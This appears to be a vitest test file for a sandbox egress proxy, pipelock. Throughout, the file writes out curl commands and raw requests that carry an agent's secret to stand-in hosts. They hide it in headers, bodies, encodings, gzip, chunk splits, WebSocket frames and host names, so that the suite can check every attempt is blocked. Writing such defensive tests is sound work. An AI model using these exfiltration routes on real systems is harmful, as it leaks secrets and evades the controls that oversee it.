// Sandbox escape, by smuggling a secret out to a host the bottle does allow: the agent holds
// a secret (a forwarded env value pipelock knows) and tries every place a request carries
// data (path, query, headers, cookie, bodies, WebSocket frames, the host name itself) and
// every disguise (base64, hex, URL-encoding, gzip, chunks that split it). Each must be
// refused, and the recording stand-in must never see the secret in any form.
import { randomBytes } from "node:crypto";
import { gzipSync } from "node:zlib";
import { beforeAll, expect, it } from "vitest";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import {
  curlThrough,
  notRefused,
  pipelockAddress,
  pipelockProxy,
} from "../support/docker/escape-bottle.js";
import {
  type ExchangeOp,
  httpRequest,
  probe,
  webSocketFrame,
  webSocketUpgrade,
} from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { routedBottle } from "../support/fixtures/bottle-yaml.js";
import { encodedForms } from "../support/fixtures/encoded-forms.js";
import { randomAwsKeyId, randomGithubToken } from "../support/fixtures/fake-credentials.js";
import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";

const SECRET = `cbsecret-${randomBytes(10).toString("hex")}`;
const TOKEN = `cbtest-dlp-route-token-${randomBytes(4).toString("hex")}`;
const ALLOWED = "allowed.example.test";
const ROUTE = "api.example.test";
const HEX = Buffer.from(SECRET).toString("hex");

/** Random credentials of well-known shapes, made up per run. */
describeWithEngine("escape: carrying a secret out to an allowed host", () => {
  const suite = escapeSuite();
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;

  /** Requests for `/escape…` the stand-in received: each one is a leak. */
  const leaks = async () =>
    (await upstream.requests()).filter((r) => r.url.startsWith("/escape")).map((r) => r.url);

  const tunnelTo = (host: string, send: Buffer[], proxy = "egress:8080"): ExchangeOp => ({
    kind: "exchange",
    proxy,
    connect: `${host}:443`,
    tls: true,
    send,
    delayMs: 300,
    quietMs: 2500,
  });

  beforeAll(async () => {
    bottle = await suite.startBottle(
      "dlp",
      routedBottle({
        allow: [ALLOWED, "*.wild.example.test"],
        route: ROUTE,
        token: TOKEN,
        agentSecret: SECRET,
      }),
    );
    // The secret-bearing names answer on the stand-in, so a leak lands there and no name is
    // ever looked up outside the machine.
    upstream = await suite.startUpstream(bottle, [
      ALLOWED,
      ROUTE,
      "control.wild.example.test",
      `${SECRET}.wild.example.test`,
      `${HEX}.wild.example.test`,
    ]);
  });

  it("holds the secret, and sends clean requests out (the control)", async () => {
    expect((await bottle.exec('printf %s "$AGENT_SECRET"')).stdout).toBe(SECRET);
    expect(
      await curlThrough(bottle, `https://${ALLOWED}/control`, { args: "--data-binary hello" }),
    ).toMatchObject({ connect: 200, http: 200 });
    expect(await curlThrough(bottle, "https://control.wild.example.test/control")).toMatchObject({
      http: 200,
    });
  });

  it("blocks the secret in the path, the query, a header and a cookie", async () => {
    // Threat: the agent reads its own environment and sends a value out in the request line or headers.
    const base = `https://${ALLOWED}/escape`;
    const passed = await notRefused(bottle, [
      { name: "path", url: `${base}/path/$AGENT_SECRET` },
      { name: "query", url: `${base}/query?q=$AGENT_SECRET` },
      { name: "header", url: `${base}/header`, args: `-H "X-Debug: $AGENT_SECRET"` },
      { name: "cookie", url: `${base}/cookie`, args: `-b "session=$AGENT_SECRET"` },
      {
        name: "basic auth",
        url: `${base}/basic`,
        args: `-u "agent:$AGENT_SECRET"`,
      },
      {
        name: "path, straight to pipelock",
        url: `${base}/direct/$AGENT_SECRET`,
        proxy: pipelockProxy(bottle),
      },
      {
        name: "header, plain http",
        url: `http://${ALLOWED}/escape/plain`,
        args: `-H "X-Debug: $AGENT_SECRET"`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("blocks the secret in a body: plain, JSON with escapes, form-encoded, multipart", async () => {
    // Threat: the secret travels in the body, where a proxy that looks only at headers misses it.
    // The first character as a JSON \u escape: the body never holds the secret verbatim.
    const code = SECRET.charCodeAt(0).toString(16).padStart(4, "0");
    const jsonEscaped = `{"note":"\\u${code}${SECRET.slice(1)}"}`;
    const base = `https://${ALLOWED}/escape`;
    const passed = await notRefused(bottle, [
      { name: "plain", url: `${base}/body`, args: `--data-binary "log: $AGENT_SECRET"` },
      {
        name: "json",
        url: `${base}/json`,
        args: `-H 'Content-Type: application/json' --data-binary '${jsonEscaped}'`,
      },
      { name: "form", url: `${base}/form`, args: `--data-urlencode "x=$AGENT_SECRET"` },
      { name: "multipart", url: `${base}/multipart`, args: `-F "file=$AGENT_SECRET"` },
      {
        name: "plain http body",
        url: `http://${ALLOWED}/escape/plain-body`,
        args: `--data-binary "$AGENT_SECRET"`,
      },
      {
        name: "body, straight to pipelock",
        url: `${base}/direct-body`,
        args: `--data-binary "$AGENT_SECRET"`,
        proxy: pipelockProxy(bottle),
      },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("blocks base64, hex and URL-encoded forms of the secret", async () => {
    // Threat: an encoding hides the value from a scanner that looks for it verbatim.
    const base = `https://${ALLOWED}/escape`;
    const b64 = (pad: string) => Buffer.from(pad + SECRET).toString("base64");
    const percent = [...Buffer.from(SECRET)].map((b) => `%${b.toString(16)}`).join("");
    const passed = await notRefused(bottle, [
      { name: "base64", url: `${base}/b64`, args: `--data-binary '${b64("")}'` },
      { name: "base64, one byte in", url: `${base}/b64-1`, args: `-H 'X-Blob: ${b64("x")}'` },
      { name: "base64, two bytes in", url: `${base}/b64-2?d=${encodeURIComponent(b64("xy"))}` },
      {
        name: "base64url",
        url: `${base}/b64url/${b64("").replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "")}`,
      },
      { name: "hex", url: `${base}/hex`, args: `--data-binary '${HEX}'` },
      { name: "HEX", url: `${base}/hex-upper?h=${HEX.toUpperCase()}` },
      { name: "percent-encoded query", url: `${base}/pct?q=${percent}` },
      { name: "percent-encoded path", url: `${base}/pct/${percent}` },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("blocks a gzip'd body, and refuses a body in an encoding it cannot read", async () => {
    // Threat: compression turns the secret into bytes no pattern matches.
    const gz = gzipSync(Buffer.from(`{"log":"${SECRET}"}`));
    const files = await bottle.exec(
      `printf %s '${gz.toString("base64")}' | base64 -d >/tmp/body.gz && gzip -c /tmp/body.gz >/tmp/body.gz.gz`,
    );
    expect(files.code).toBe(0);
    const passed = await notRefused(bottle, [
      {
        name: "gzip",
        url: `https://${ALLOWED}/escape/gzip`,
        args: `-H 'Content-Encoding: gzip' --data-binary @/tmp/body.gz`,
      },
      {
        name: "gzip twice",
        url: `https://${ALLOWED}/escape/gzip2`,
        args: `-H 'Content-Encoding: gzip, gzip' --data-binary @/tmp/body.gz.gz`,
      },
      {
        name: "unknown encoding",
        url: `https://${ALLOWED}/escape/zstd`,
        args: `-H 'Content-Encoding: zstd' --data-binary "$AGENT_SECRET"`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("blocks a secret split across the chunks of a chunked body, on every way in", async () => {
    // Threat: no single chunk (or TCP segment) holds the whole secret.
    const half = Math.floor(SECRET.length / 2);
    const chunk = (text: string) => `${Buffer.byteLength(text).toString(16)}\r\n${text}\r\n`;
    const body = (host: string, target: string) => [
      httpRequest(`POST ${target} HTTP/1.1`, [
        ["Host", host],
        ["Transfer-Encoding", "chunked"],
        ["Content-Type", "text/plain"],
        ["Connection", "close"],
      ]),
      Buffer.from(chunk(`note ${SECRET.slice(0, half)}`)),
      Buffer.from(`${chunk(`${SECRET.slice(half)} end`)}0\r\n\r\n`),
    ];
    const ops: ExchangeOp[] = [
      tunnelTo(ALLOWED, body(ALLOWED, "/escape/chunked-relayed")),
      tunnelTo(ROUTE, body(ROUTE, "/escape/chunked-route")),
      tunnelTo(ALLOWED, body(ALLOWED, "/escape/chunked-pipelock"), pipelockAddress(bottle)),
      {
        kind: "exchange",
        proxy: "egress:8080",
        send: body(ALLOWED, `http://${ALLOWED}/escape/chunked-plain`),
        delayMs: 300,
        quietMs: 2500,
      },
    ];
    const results = await probe(bottle.agentContainer, ops);
    expect(results.map((r) => r.status)).toEqual([403, 403, 403, 403]);
    expect(await leaks()).toEqual([]);
  });

  it("never forwards a secret in a chunked body's trailer", async () => {
    // Threat: trailers come after the body, where a scanner may have stopped looking.
    const send = (host: string, target: string) => [
      httpRequest(`POST ${target} HTTP/1.1`, [
        ["Host", host],
        ["Transfer-Encoding", "chunked"],
        ["Trailer", "X-Note"],
        ["Connection", "close"],
      ]),
      Buffer.from(`5\r\nhello\r\n0\r\nX-Note: ${SECRET}\r\n\r\n`),
    ];
    await probe(bottle.agentContainer, [
      tunnelTo(ALLOWED, send(ALLOWED, "/trailer-relayed")),
      tunnelTo(ROUTE, send(ROUTE, "/trailer-route")),
    ]);
    const received = everythingReceived(await upstream.requests(), []);
    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
  });

  it("blocks a secret in a WebSocket message, a fragmented message and a ping, but relays clean ones", async () => {
    // Threat: after the upgrade, frames are a raw stream no HTTP scanner reads.
    const half = Math.floor(SECRET.length / 2);
    const session = (host: string, target: string, frames: Buffer[]) => [
      webSocketUpgrade(target, host),
      webSocketFrame(1, "hello, clean message"),
      ...frames,
    ];
    const plain = (target: string, frames: Buffer[]): ExchangeOp => ({
      kind: "exchange",
      proxy: pipelockAddress(bottle),
      send: session(ALLOWED, `http://${ALLOWED}${target}`, frames),
      delayMs: 300,
      quietMs: 2500,
    });
    const ops: ExchangeOp[] = [
      tunnelTo(ALLOWED, session(ALLOWED, "/ws-message", [webSocketFrame(1, `token=${SECRET}`)])),
      tunnelTo(
        ALLOWED,
        session(ALLOWED, "/ws-fragments", [
          webSocketFrame(1, `part one ${SECRET.slice(0, half)}`, { fin: false }),
          webSocketFrame(0, `${SECRET.slice(half)} part two`),
        ]),
      ),
      tunnelTo(ALLOWED, session(ALLOWED, "/ws-ping", [webSocketFrame(9, SECRET)])),
      tunnelTo(ALLOWED, session(ALLOWED, "/ws-binary", [webSocketFrame(2, Buffer.from(HEX))])),
      plain("/ws-plain", [webSocketFrame(1, `token=${SECRET}`)]),
    ];
    const results = await probe(bottle.agentContainer, ops);
    for (const r of results) {
      expect(r.status).toBe(101);
      // The clean message came back from the stand-in; the secret one ended the session.
      expect(r.response).toContain("hello, clean message");
      expect(r.response).toContain("pipelock: blocked");
    }
    const frames = await upstream.frames();
    const payloads = frames.map((f) => Buffer.from(f.payload, "base64").toString("latin1"));
    expect(payloads.filter((p) => p.includes("hello, clean message"))).toHaveLength(ops.length);
    const received = everythingReceived([], frames);
    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
    expect(payloads.filter((p) => p.includes(SECRET.slice(0, half)))).toEqual([]);
  });

  it("blocks the secret in a host name under an allowed wildcard", async () => {
    // Threat: the name itself is the message (and is looked up by a resolver on the way).
    const passed = await notRefused(bottle, [
      { name: "verbatim", url: `https://${SECRET}.wild.example.test/escape/name` },
      { name: "hex", url: `https://${HEX}.wild.example.test/escape/name-hex` },
      { name: "plain http", url: `http://${SECRET}.wild.example.test/escape/name-plain` },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("blocks credential-shaped values the bottle never declared", async () => {
    // Threat: the agent finds a key in a repository or a file and sends it out.
    const base = `https://${ALLOWED}/escape`;
    const passed = await notRefused(bottle, [
      {
        name: "AWS key id",
        url: `${base}/aws`,
        args: `-H 'Content-Type: application/json' --data-binary '{"aws_access_key_id":"${randomAwsKeyId()}"}'`,
      },
      {
        name: "GitHub token",
        url: `${base}/github`,
        args: `-H 'X-Token: ${randomGithubToken()}'`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("does not let the route's own host receive the agent's secret", async () => {
    // Threat: a host trusted with the route's token is still not trusted with every secret.
    const passed = await notRefused(bottle, [
      {
        name: "route host, header",
        url: `https://${ROUTE}/escape/route`,
        args: `-H "X-Note: $AGENT_SECRET"`,
      },
      {
        name: "route host, body",
        url: `https://${ROUTE}/escape/route-body`,
        args: `--data-binary "$AGENT_SECRET"`,
      },
    ]);
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("the stand-in never received the secret, in any form, anywhere", async () => {
    const received = everythingReceived(await upstream.requests(), await upstream.frames());
    expect(received.length).toBeGreaterThan(0);
    expect(encodedForms(SECRET).filter((f) => received.includes(f))).toEqual([]);
    // pipelock's audit log records every refusal, and never the value it refused.
    const audit = await bottle.pipelockAudit();
    expect(audit.some((e) => e.decision === "dlp_block")).toBe(true);
    const logged = JSON.stringify(audit);
    expect(encodedForms(SECRET).filter((f) => logged.includes(f))).toEqual([]);
  });
});
